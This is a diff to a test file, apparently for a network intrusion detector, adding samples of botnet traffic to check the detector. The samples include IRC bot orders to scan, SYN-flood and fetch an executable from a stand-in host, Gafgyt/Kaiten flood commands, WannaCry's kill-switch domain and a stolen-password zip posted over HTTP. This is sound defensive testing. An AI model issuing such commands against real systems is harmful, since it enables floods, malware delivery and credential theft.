@@ -35,6 +35,8 @@ describe('first words', () => {
     ['STRRAT', '144\r\n\r\nping|STRRAT|C4BA3647|USER-PC|admin|Microsoft Windows 7'],
     ['njRAT', "165\0ll|'|'|SGFjS2VkXzEyMzQ1Njc4|'|'|USER-PC|'|'|admin|'|'|21-01-01|'|'||'|'|Win 7"],
     ['Gh0st RAT', 'Gh0st\xad\0\0\0\xe0\0\0\0x\x9cKS``\x98\xc3\xc0'],
+    ['Gafgyt', '!* SCANNER ON\n!* SCANNER OFF\n'],
+    ['Gafgyt', '!* TCP 198.51.100.7 80 60 32 0 10\n'],
     ['DarkComet', 'BF7CAB464EFBA57DAD495BECB15D8B4C57F0BE82'],
     // [MC-NMF]: version 1.0, mode duplex, the address it goes to.
     ['RedLine, which speaks net.tcp to an address without a name', '\0\x01\0\x01\x02\x02\x1fnet.tcp://203.0.113.9:15647/\x03\x08\x0c'],
@@ -42,6 +44,34 @@ describe('first words', () => {
     ['a remote shell', 'Microsoft Windows [Version 6.1.7601]\r\nCopyright (c) 2009 Microsoft Corporation.\r\n\r\nC:\\Users>'],
     ['a remote shell', 'bash: no job control in this shell\nbash-4.2$ '],
   ])('of %s', async (name, text) => expect(await said([['client', text]])).toEqual([`Marks of ${name} between 10.0.0.5 and ${SERVER} port 4444`]));
+
+  describe('of a bot on IRC, whatever it is called', () => {
+    const session = (...lines: readonly (readonly ['client' | 'server', string])[]) =>
+      said(
+        [
+          ['client', 'NICK n-821034\r\nUSER virus * 0 :owned\r\n'],
+          ['server', ':irc.x 001 n-821034 :Welcome\r\n'],
+          ['client', 'JOIN #r key\r\n'],
+          ...lines,
+        ],
+        6667,
+      );
+    test.each<[string, 'client' | 'server', string]>([
+      ['an order in the topic', 'server', ':irc.x 332 n-821034 #r :.advscan asn1smb 100 5 0 -r -s\r\n'],
+      ['an order to flood', 'server', ':boss!b@h PRIVMSG #r :.ddos.syn 198.51.100.7 80 600\r\n'],
+      ['an order to fetch a program', 'server', ':boss!b@h PRIVMSG #r :.download http://203.0.113.9/a.exe c:\\a.exe 1\r\n'],
+      ['an order of Kaiten', 'server', ':boss!b@h PRIVMSG #r :!* UDP 198.51.100.7 80 600\r\n'],
+      ['a report', 'client', 'PRIVMSG #r :[SCAN]: Random Port Scan started on 10.0.x.x:445 with a delay of 5 seconds.\r\n'],
+    ])('%s', async (_, side, line) => expect(await session([side, line])).toMatchObject([expect.stringContaining('a bot on IRC') as string]));
+    test.each<[string]>([
+      [':alice!a@h PRIVMSG #games :.hack//SIGN is great, you can download it at https://shop.example\r\n'],
+      [':alice!a@h PRIVMSG #r :!help\r\n'],
+      [':alice!a@h PRIVMSG #r :.update your kernel, see https://kernel.example\r\n'],
+      [':alice!a@h PRIVMSG #r :!seen UDP people\r\n'],
+      [':alice!a@h PRIVMSG #r :scan of the book: page 3\r\n'],
+      [':alice!a@h PRIVMSG #r :[OFFTOPIC]: lunch?\r\n'],
+    ])('silent on %j', async (line) => expect(await session(['server', line])).toEqual([]));
+  });
 
   test('of a stage of Meterpreter', async () => {
     const stage = `\0\x98\x02\0MZARUH\x89\xe5H\x81\xec \0\0\0${'\x90'.repeat(2000)}`;
@@ -63,12 +93,39 @@ describe('first words', () => {
   });
   test.each([
     'ping\r\n',
+    '!* SCANNER of books\n',
     '\0\x01\0\x01\x02\x02\x1dnet.tcp://orders.example:808/\x03\x08\x0c',
     'GET_INFO|1|2|3',
     'Gh0st story, chapter one\n',
     'Microsoft Word document\r\n',
     'NICK alice\r\nUSER alice 0 * :Alice\r\n',
   ])('silent on %j', async (text) => expect(await said([['client', text]])).toEqual([]));
+});
+
+test('the name that WannaCry asks for before it starts', async () => {
+  const asked = async (name: string) => (await run(lookUps([name]).bytes())).map(({ title }) => title);
+  expect(await asked('www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com')).toMatchObject([
+    expect.stringMatching(/ asks \S+ for names of WannaCry$/) as string,
+  ]);
+  expect(await asked('www.wannacry.com')).toEqual([]);
+});
+
+describe('a thief of passwords that posts what it took', () => {
+  /** APPNOTE.TXT 4.3.7: a local header, its first file's name at 30. */
+  const zip = (name: string): string => `PK\x03\x04\x14\0\0\0\x08\0${'\0'.repeat(16)}${String.fromCharCode(name.length)}\0\0\0${name}data`;
+  const posted = (name: string) =>
+    said(
+      web('/', {
+        method: 'POST',
+        headers: 'Host: 203.0.113.9\r\nContent-Type: multipart/form-data; boundary=x\r\n',
+        body: `--x\r\nContent-Disposition: form-data; name="logs"; filename="a.zip"\r\n\r\n${zip(name)}\r\n--x--\r\n`,
+      }),
+      80,
+    );
+  test.each(['passwords.txt', 'Chrome/Passwords.txt', 'UserInformation.txt', 'System Info.txt'])('with %s first', async (name) =>
+    expect(await posted(name)).toMatchObject([expect.stringContaining('a password thief that reports by HTTP') as string]),
+  );
+  test.each(['report.txt', 'word/document.xml', 'passwords.txt.html.erb'])('silent on %s', async (name) => expect(await posted(name)).toEqual([]));
 });
 
 describe('requests', () => {
